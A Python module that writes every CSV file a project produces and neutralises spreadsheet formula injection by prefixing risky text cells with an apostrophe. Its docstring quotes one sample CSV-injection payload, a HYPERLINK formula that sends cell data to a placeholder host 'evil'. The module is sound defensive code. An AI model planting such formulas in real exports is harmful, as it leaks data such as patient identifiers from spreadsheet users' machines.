"""The one CSV writer of every CSV the project writes: `matcher match --format csv`, the
nightly report's YYYY-MM-DD.csv and the web app's Export CSV.

Those files are opened in spreadsheets, and a cell that starts with `=`, `+`, `-`, `@`, a
tab or a carriage return is read there as a formula (OWASP "CSV injection"): a patient id
`=HYPERLINK("http://evil/?"&A1)` from a careless export would run on a coordinator's
machine. Such a text cell is written with a leading `'`, which spreadsheets show as text.

Only text is neutralised: a number is written as it is, so a score of -0.5 stays the
number -0.5 (every number the project writes is a Python int or float, never text), while
the text "-0.5" becomes "'-0.5". The dialect is RFC 4180 (comma, CRLF line ends, quotes
where needed). Depends on the standard library only, so every layer may use it.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """`value`, or `'` + value when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_LEADS):
        return "'" + value
    return value


def csv_text(header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> str:
    """A whole CSV file (header, then rows) as text, every cell through safe_cell."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([safe_cell(v) for v in header])
    writer.writerows([safe_cell(v) for v in row] for row in rows)
    return buffer.getvalue()
